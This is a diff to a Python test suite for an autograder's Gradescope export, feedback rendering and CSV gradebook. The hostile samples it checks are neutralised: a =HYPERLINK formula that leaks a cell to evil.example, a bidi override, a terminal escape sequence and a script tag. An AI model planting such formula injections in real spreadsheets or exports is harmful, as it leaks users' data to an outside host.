@@ -117,6 +117,8 @@ def test_clean_text_strips_terminal_escapes_and_controls():
     # Bidi overrides can make a line read differently from what it holds (Trojan Source).
     assert clean_text("ok\u202e// evil\u202c") == "ok// evil"
     assert clean_text(None) == ""
+    # An unterminated title sequence hides the rest of its line only, not the next lines.
+    assert clean_text("before\x1b]0;no end\nafter") == "before\nafter"
 
 
 def test_clean_text_caps_length_keeping_head_and_tail():
@@ -310,6 +312,19 @@ def test_results_json_cleans_hostile_text(tmp_path):
     assert back.leaderboard == [{"name": "validation accuracy", "value": "@SUM(1)"}]
 
 
+def test_leaderboard_entry_without_value(tmp_path):
+    result = clean_submission()
+    result.leaderboard = [{"name": "validation accuracy", "value": None, "order": "desc"},
+                          {"name": "epochs", "value": 40, "order": "asc"},
+                          {"name": "final loss", "value": float("nan"), "order": "asc"}]
+    data = to_gradescope(result)
+    assert data["leaderboard"] == [{"name": "epochs", "value": 40, "order": "asc"}]  # Gradescope ranks values
+    jsonschema.Draft202012Validator(GRADESCOPE_SCHEMA).validate(data)
+    assert "| validation accuracy | no value |" in render_feedback(result)
+    result.leaderboard = result.leaderboard[:1]
+    assert "leaderboard" not in to_gradescope(result)
+
+
 def test_results_json_without_extra_data_takes_function_from_name(tmp_path):
     data = {"score": 1.0, "tests": [{"name": "optimizers.Adam: first step", "score": 1.0, "max_score": 2.0}]}
     folder = tmp_path / "bob"
@@ -400,8 +415,9 @@ def test_feedback_keeps_hostile_text_inert(tmp_path):
     assert "<script>alert(1)</script>" in text  # shown literally, inside a fence
     assert "ValueError: the real error at the end" in text
     assert len(text) < 3 * MAX_CHARS + 3000  # the 300 kB message was capped
-    # The name, a formula with a URL, is escaped: no raw link, no table/HTML breakage.
-    assert outside.startswith("# Feedback: =HYPERLINK\\(") or "https:\\/\\/evil.example" in outside
+    # The name, a formula with a URL, is escaped: no bare URL to auto-link, no entity.
+    assert text.splitlines()[0] == '# Feedback: =HYPERLINK("https:\\/\\/evil.example/?leak="\\&A1,"click")'
+    assert "://" not in outside
 
 
 # ----------------------------------------------------------------------------- gradebook
@@ -464,28 +480,35 @@ def test_gradebook_streams_without_keeping_results(tmp_path):
     assert len(pd.read_csv(tmp_path / "grades.csv")) == 30
 
 
-def test_gradebook_columns_from_first_result_with_tests_or_caller(tmp_path):
+def test_gradebook_columns_first_seen_late_still_get_their_place(tmp_path):
+    # The first submission ran no test, the second has no leaderboard value (None): their
+    # columns appear later, and the earlier rows get empty cells.
     empty = SubmissionResult(name="empty", tests=[])
+    no_value = clean_submission("a", leaderboard=False)
+    no_value.leaderboard = [{"name": "validation accuracy", "value": None, "order": "desc"}]
+    sgd = SubmissionResult(name="b", tests=[make_test("optimizers.SGD", "one step", 2)],
+                           leaderboard=[{"name": "validation accuracy", "value": 0.75}])
     path = tmp_path / "grades.csv"
-    write_grades_csv([empty, clean_submission("a", leaderboard=False)], path)
+    assert write_grades_csv(iter([empty, no_value, sgd]), path) == 3
     table = pd.read_csv(path)
-    assert list(table["submission"]) == ["empty", "a"]
-    assert table.loc[0, "score"] == 0 and np.isnan(table.loc[0, "optimizers.Adam"])
+    assert list(table.columns) == ["submission", "score", "max_score", "logistic_regression.loss",
+                                   "linear_regression.gradients", "optimizers.Adam", "optimizers.SGD",
+                                   "leaderboard.validation accuracy"]
+    assert list(table["submission"]) == ["empty", "a", "b"]
+    np.testing.assert_allclose(table["score"], [0, 5, 2])
+    np.testing.assert_allclose(table["optimizers.SGD"], [np.nan, np.nan, 2])
+    np.testing.assert_allclose(table["logistic_regression.loss"], [np.nan, 4, np.nan])
+    np.testing.assert_allclose(table["leaderboard.validation accuracy"], [np.nan, np.nan, 0.75])
 
+
+def test_gradebook_caller_columns_come_first(tmp_path):
+    path = tmp_path / "grades.csv"
     adam_only = SubmissionResult(name="b", tests=[make_test("optimizers.Adam", "one step", 1.5)])
-    write_grades_csv(iter([adam_only]), path, functions=["optimizers.Adam", "extra.f"], leaderboard=[])
+    write_grades_csv([adam_only], path, functions=["extra.f", "optimizers.Adam"], leaderboard=["loss"])
     table = pd.read_csv(path)
-    assert list(table.columns) == ["submission", "score", "max_score", "optimizers.Adam", "extra.f"]
+    assert list(table.columns) == ["submission", "score", "max_score", "extra.f", "optimizers.Adam",
+                                   "leaderboard.loss"]
     assert table.loc[0, "optimizers.Adam"] == 1.5 and np.isnan(table.loc[0, "extra.f"])
-
-
-def test_gradebook_refuses_to_drop_unknown_functions(tmp_path):
-    path = tmp_path / "grades.csv"
-    path.write_text("old")
-    other = SubmissionResult(name="b", tests=[make_test("optimizers.SGD", "one step", 2)])
-    with pytest.raises(ValueError, match="optimizers.SGD"):
-        write_grades_csv([clean_submission("a"), other], path)
-    assert path.read_text() == "old"
 
 
 def test_gradebook_of_nothing_is_a_header(tmp_path):
